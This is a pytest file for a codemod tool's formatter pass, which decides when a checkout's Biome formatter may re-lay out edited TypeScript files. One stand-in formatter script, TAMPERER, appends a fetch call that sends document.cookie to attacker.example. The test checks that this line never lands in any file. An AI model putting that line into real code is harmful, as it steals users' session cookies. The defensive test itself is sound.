"""The checkout's own formatter as the last layout pass (codemods/formatter.py).

The real Biome of tools/node_modules (mesh's version) is linked into a copy
of the host fixture as its ``node_modules/.bin/biome``, the way an installed
mesh checkout has it. Without it these tests are skipped on a developer
machine and fail in CI. The rules that need a formatter misbehaving use a
stand-in written here.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import re
from pathlib import Path

import pytest

from codemods.plan.formatting import BUILT_IN, FORMATTER, FormatterMissing, FormatterMode, choose, edited_ranges, find_biome, lines_changed_outside

from .node_tools import BIN, require
from .support import FIXTURES, invoke, snapshot

BIOME = BIN / "biome"
BRIDGE = "apps/mesh/src/mcp-apps/use-app-bridge.ts"
NEW_MODULE = "apps/mesh/src/mcp-apps/app-state.ts"
# Settings that the built-in layout does not read (SPEC 3.8 lists indent,
# quotes, width, semicolons, trailing commas): only the formatter gets them right.
UNREAD_SETTINGS = {"bracketSpacing": False, "arrowParentheses": "asNeeded"}


@pytest.fixture
def biome() -> Path:
    return require(BIOME, "Biome")


def _tree(tmp_path: Path, name: str, formatter: Path | None, settings: dict | None = None) -> Path:
    """A copy of the newest host fixture with ``formatter`` installed as its
    node_modules/.bin/biome, reformatted by it under ``settings``."""
    repo = tmp_path / name
    shutil.copytree(FIXTURES / "newest" / "input", repo)
    if formatter is not None:
        (repo / "node_modules" / ".bin").mkdir(parents=True)
        (repo / "node_modules" / ".bin" / "biome").symlink_to(formatter)
    if settings:
        config = json.loads((repo / "biome.json").read_text())
        config["javascript"]["formatter"].update(settings)
        (repo / "biome.json").write_text(json.dumps(config, indent=2))
        _biome(repo, "--write")
    return repo


def _biome(repo: Path, *args: str) -> subprocess.CompletedProcess:
    return subprocess.run(
        [str(repo / "node_modules/.bin/biome"), "format", *args, "apps"], cwd=repo, capture_output=True, text=True
    )


def _apply(repo: Path, *args: str) -> dict:
    result = invoke("apply", "--repo", repo, "--json", *args)
    assert result.exit_code == 0, result.stdout
    return json.loads(result.stdout)


def _layouts(report: dict) -> dict[str, dict]:
    return {f["path"]: f["layout"] for f in report["files"]}


def _sources(repo: Path) -> dict[str, bytes]:
    return {p: data for p, data in snapshot(repo).items() if p.startswith("apps/")}


def test_the_pass_fixes_what_the_built_in_layout_gets_wrong(biome: Path, tmp_path: Path) -> None:
    built_in = _tree(tmp_path, "built-in", biome, UNREAD_SETTINGS)
    _apply(built_in, "--formatter", "none")
    # the premise: without the formatter, Biome would change some touched file
    assert _biome(built_in).returncode != 0

    repo = _tree(tmp_path, "formatter", biome, UNREAD_SETTINGS)
    report = _apply(repo)
    assert report["formatter"]["name"].startswith("biome 2.")
    layouts = _layouts(report)
    assert len(layouts) == 10 and {layout["kind"] for layout in layouts.values()} == {FORMATTER}
    assert "re-laid out the edited lines" in layouts[BRIDGE]["reason"]
    check = _biome(repo)
    assert check.returncode == 0, check.stdout + check.stderr
    # and the result is stable: a second run has nothing to do
    again = invoke("apply", "--repo", repo, "--check")
    assert again.exit_code == 0, again.stderr
    assert "nothing to do" in again.stderr


def test_a_file_not_formatter_clean_before_keeps_the_built_in_layout(biome: Path, tmp_path: Path) -> None:
    trees = [_tree(tmp_path, name, biome, UNREAD_SETTINGS) for name in ("formatter", "built-in")]
    for repo in trees:
        with open(repo / BRIDGE, "a", encoding="utf-8") as handle:
            handle.write("export const   untidy = {a:1};\n")  # the author's, far from the edits
    text = invoke("apply", "--repo", trees[0], "--dry-run").stderr
    # the text report says so too: under a built-in group of its own
    assert re.search(rf"^  layout: built-in \([^\n]*\):\n(    .*\n)*    {re.escape(BRIDGE)}\n", text, re.M), text
    layouts = _layouts(_apply(trees[0]))
    _apply(trees[1], "--formatter", "none")

    assert layouts[BRIDGE] == {
        "kind": BUILT_IN,
        "reason": f"{find_biome(trees[0]).name} would change the file as it was before the edit",
    }
    assert (trees[0] / BRIDGE).read_bytes() == (trees[1] / BRIDGE).read_bytes()
    assert layouts[NEW_MODULE]["kind"] == FORMATTER


def test_formatter_none_and_no_formatter_give_the_built_in_layout(biome: Path, tmp_path: Path) -> None:
    off = _tree(tmp_path, "off", biome, UNREAD_SETTINGS)
    report = _apply(off, "--formatter", "none")
    assert report["formatter"] == {"name": "none", "reason": "--formatter none"}
    assert {l["kind"] for l in _layouts(report).values()} == {BUILT_IN}

    absent = _tree(tmp_path, "absent", biome, UNREAD_SETTINGS)
    shutil.rmtree(absent / "node_modules")
    report = _apply(absent)
    assert report["formatter"]["reason"] == "no node_modules/.bin/biome in the checkout"
    assert _sources(absent) == _sources(off)

    required = invoke("apply", "--repo", absent, "--formatter", "biome")
    assert required.exit_code == 2
    assert "--formatter biome" in required.stderr and "node_modules/.bin/biome" in required.stderr


def test_dry_run_shows_exactly_what_apply_writes(biome: Path, tmp_path: Path) -> None:
    shown = _tree(tmp_path, "shown", biome, UNREAD_SETTINGS)
    written = _tree(tmp_path, "written", biome, UNREAD_SETTINGS)
    diff = invoke("apply", "--repo", shown, "--dry-run").stdout
    assert _apply(written)["written"]
    subprocess.run(["git", "apply", "-p1", "-"], cwd=shown, input=diff, text=True, check=True)
    assert _sources(shown) == _sources(written)


# --- a stand-in formatter that changes a line away from the edit --------------

MEDDLER = """#!/usr/bin/env bash
# Like `biome format --write FILES`, but a file holding appState gains a
# first line (away from the edit in a file that existed before it).
for f in "$@"; do
  case "$f" in --*) continue ;; esac
  if grep -q appState "$f"; then
    { echo "// reformatted"; cat "$f"; } > "$f.tmp" && mv "$f.tmp" "$f"
  fi
done
"""


def test_a_formatter_that_changes_lines_away_from_the_edit_is_refused(tmp_path: Path) -> None:
    meddler = tmp_path / "meddler"
    meddler.write_text(MEDDLER)
    meddler.chmod(0o755)
    repo = _tree(tmp_path, "repo", meddler)
    plain = _tree(tmp_path, "plain", None)
    layouts = _layouts(_apply(repo))
    _apply(plain)

    # a line added is more than layout: the built-in layout, in an edited
    # file and in a new one alike (a new file is all edit, but not all the
    # formatter's to write)
    for path in (BRIDGE, NEW_MODULE):
        assert layouts[path]["kind"] == BUILT_IN
        assert layouts[path]["reason"] == "biome changed more than the layout of the tool's output"
        assert (repo / path).read_bytes() == (plain / path).read_bytes()


TAMPERER = r"""#!/usr/bin/env bash
# Like `biome format --write FILES`, but each file the tool edits gets a
# line that sends the page's cookies away (issue 22, finding 4), and its
# strings in single quotes (layout, which is the formatter's to choose).
for f in "$@"; do
  case "$f" in --*) continue ;; esac
  if grep -q appState "$f"; then
    sed -i "s/\"/'/g" "$f"
    echo 'fetch("https://attacker.example/" + document.cookie);' >> "$f"
  fi
done
"""


def test_a_tampering_formatter_reaches_no_file_new_or_edited(tmp_path: Path) -> None:
    tamperer = tmp_path / "tamperer"
    tamperer.write_text(TAMPERER)
    tamperer.chmod(0o755)
    repo = _tree(tmp_path, "repo", tamperer)
    layouts = _layouts(_apply(repo))
    assert layouts, "the formatter ran"
    refused = "biome changed more than the layout of the tool's output"
    for path, layout in layouts.items():
        assert b"attacker.example" not in (repo / path).read_bytes(), path
        # a file it left alone is its to lay out; every other one is refused
        assert layout["reason"] in (refused, "biome agrees with the built-in layout"), (path, layout)
    assert any(l["reason"] == refused for l in layouts.values())


@pytest.mark.parametrize(
    ("script", "reason"),
    [
        ("echo 'cannot read the configuration' >&2\nexit 2", "cannot read the configuration"),
        ("exec sleep 60", "no answer within 1 s"),  # stopped after the timeout
    ],
    ids=["fails", "does-not-answer"],
)
def test_a_failing_formatter_leaves_the_built_in_layout_and_says_why(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, script: str, reason: str
) -> None:
    monkeypatch.setattr("codemods.checks.format_pass._TIMEOUT", 1)
    broken = tmp_path / "broken"
    broken.write_text(f"#!/bin/sh\n{script}\n")
    broken.chmod(0o755)
    repo = _tree(tmp_path, "repo", broken)
    layouts = _layouts(_apply(repo))
    assert {l["reason"] for l in layouts.values()} == {f"biome failed: {reason}"}


# --- the pieces ---------------------------------------------------------------


def test_edited_ranges_are_the_inserted_and_changed_lines() -> None:
    old = b"a\nb\nc\nd\n"
    assert edited_ranges(old, b"a\nB\nc\nd\n".splitlines(keepends=True)) == [(1, 2)]
    assert edited_ranges(old, b"a\nb\nx\ny\nc\nd\n".splitlines(keepends=True)) == [(2, 4)]
    assert edited_ranges(old, b"a\nd\n".splitlines(keepends=True)) == [(1, 1)]
    assert edited_ranges(None, b"x\ny\n".splitlines(keepends=True)) == [(0, 2)]


def test_formatter_changes_are_judged_by_where_they_fall() -> None:
    new = [b"keep\n", b"const {\n", b"  a,\n", b"} =\n", b"  this.config;\n", b"keep\n"]
    edited = [(1, 4)]
    joined = [b"keep\n", b"const {\n", b"  a,\n", b"} = this.config;\n", b"keep\n"]
    assert lines_changed_outside(new, joined, edited) == ([], 1)
    touched_far = [b"KEEP\n", *new[1:]]
    assert lines_changed_outside(new, touched_far, edited) == ([0], 0)
    assert lines_changed_outside(new, new, edited) == ([], 0)


def test_the_native_binary_is_found_like_the_npm_launcher_finds_it(biome: Path, tmp_path: Path) -> None:
    repo = _tree(tmp_path, "repo", biome)
    found = find_biome(repo)
    assert found is not None and found.name.startswith("biome 2.")
    assert found.program.name == "biome" and "@biomejs/cli-" in found.program.as_posix()
    assert choose(repo, "none").biome is None
    with pytest.raises(FormatterMissing):
        choose(tmp_path, FormatterMode.BIOME)
    assert choose(tmp_path, FormatterMode.AUTO).biome is None
    assert os.access(found.program, os.X_OK)


def test_the_patch_series_is_the_built_in_layout_whatever_biome_is_installed(biome: Path, tmp_path: Path) -> None:
    """`patch` plans on the base commit's files and never runs the
    checkout's Biome (SPEC 7: a laptop and the job make the same commits):
    `git am` of the series ends at the tree `apply --formatter none` writes,
    whose layout Biome, under these settings, would change (its format
    check is what says so)."""
    from .gitrepo import BOT, commit_all, git

    repo = _tree(tmp_path, "repo", biome, UNREAD_SETTINGS)
    (repo / ".gitignore").write_text("node_modules/\n")
    git(repo, "init", "-q", "-b", "main")
    commit_all(repo, "fixture under other formatter settings")
    result = invoke("patch", "--repo", repo, "--out", tmp_path / "series", "--author", BOT)
    assert result.exit_code == 0, result.output
    git(repo, "am", "-q", *map(str, sorted((tmp_path / "series").glob("*.patch"))), env={
        "GIT_COMMITTER_NAME": "R", "GIT_COMMITTER_EMAIL": "r@x", "GIT_AUTHOR_NAME": "R", "GIT_AUTHOR_EMAIL": "r@x",
    })
    applied = _tree(tmp_path, "applied", biome, UNREAD_SETTINGS)
    _apply(applied, "--formatter", "none")
    assert _sources(repo) == _sources(applied)
    assert _biome(repo).returncode != 0


def test_an_installed_biome_without_a_biome_json_is_not_the_repos_formatter(biome: Path, tmp_path: Path) -> None:
    repo = _tree(tmp_path, "repo", biome)
    (repo / "biome.json").unlink()
    report = _apply(repo)
    assert report["formatter"] == {
        "name": "none",
        "reason": "node_modules/.bin/biome is installed, but the checkout has no biome.json",
    }
    assert {l["kind"] for l in _layouts(report).values()} == {BUILT_IN}
    assert invoke("apply", "--repo", repo, "--formatter", "biome", "--check").exit_code == 2


# --- real mesh: the five formatter settings -------------------------------

MESH = os.environ.get("MESH_GIT_DIR")
SETTINGS = {
    "indent-width-4": ("formatter", {"indentWidth": 4}),
    "tabs": ("formatter", {"indentStyle": "tab"}),
    "line-width-100": ("formatter", {"lineWidth": 100}),
    "single-quotes": ("javascript", {"quoteStyle": "single"}),
    "no-semicolons-no-trailing-commas": ("javascript", {"semicolons": "asNeeded", "trailingCommas": "none"}),
}


def _real_mesh(tmp_path: Path, setting: str, biome: Path, installed: bool) -> tuple[Path, list[str]]:
    """mesh's newest revision (MESH_REV, default HEAD) with ``setting``
    written into its biome.json and its target files reformatted under it;
    with ``installed``, Biome is the checkout's node_modules/.bin/biome.
    Also the seven files the codemod touches."""
    import io
    import tarfile

    from codemods.recipes import host

    repo = tmp_path / "mesh"
    archive = subprocess.run(
        ["git", "-C", MESH, "archive", os.environ.get("MESH_REV", "HEAD"),
         "apps/mesh/src", "apps/mesh/package.json", "package.json", "biome.json", ".gitignore"],
        check=True, capture_output=True,
    ).stdout
    with tarfile.open(fileobj=io.BytesIO(archive)) as tar:
        tar.extractall(repo, filter="data")
    if installed:
        (repo / "node_modules" / ".bin").mkdir(parents=True)
        (repo / "node_modules" / ".bin" / "biome").symlink_to(biome)
    section, values = SETTINGS[setting]
    config = json.loads((repo / "biome.json").read_text())
    config.setdefault(section, {})
    target = config[section] if section == "formatter" else config[section].setdefault("formatter", {})
    target.update(values)
    (repo / "biome.json").write_text(json.dumps(config, indent=2))
    touched = sorted(step.path for step in host.STEPS)
    existing = [p for p in touched if (repo / p).exists()]
    subprocess.run([str(biome), "format", "--write", *existing], cwd=repo, capture_output=True, check=True)
    return repo, touched


@pytest.mark.skipif(not MESH, reason="MESH_GIT_DIR is not set")
@pytest.mark.parametrize("setting", list(SETTINGS))
def test_real_mesh_under_other_settings_is_left_alone_by_its_biome(setting: str, biome: Path, tmp_path: Path) -> None:
    """mesh's newest revision, reformatted by its Biome under another
    setting: after `apply` (its Biome installed), Biome finds nothing to
    change in the seven touched files, and a second run has nothing to do."""
    repo, touched = _real_mesh(tmp_path, setting, biome, installed=True)
    report = _apply(repo)
    assert sorted(_layouts(report)) == touched
    check = subprocess.run([str(biome), "format", *touched], cwd=repo, capture_output=True, text=True)
    assert check.returncode == 0, check.stdout + check.stderr
    again = invoke("apply", "--repo", repo, "--check")
    assert again.exit_code == 0, again.stderr


@pytest.mark.skipif(not MESH, reason="MESH_GIT_DIR is not set")
@pytest.mark.parametrize("setting", ["indent-width-4", "tabs", "line-width-100", "single-quotes"])
def test_real_mesh_under_other_settings_with_the_built_in_layout(setting: str, biome: Path, tmp_path: Path) -> None:
    """The same without Biome in the checkout: every file gets the built-in
    layout, and Biome (run from outside, under the checkout's biome.json)
    finds nothing to change in the five edited files nor in the two new
    ones, which therefore follow the indent unit and quotes."""
    repo, touched = _real_mesh(tmp_path, setting, biome, installed=False)
    report = _apply(repo)
    assert {p: l["kind"] for p, l in _layouts(report).items()} == dict.fromkeys(touched, BUILT_IN)
    check = subprocess.run([str(biome), "format", *touched], cwd=repo, capture_output=True, text=True)
    assert check.returncode == 0, check.stdout + check.stderr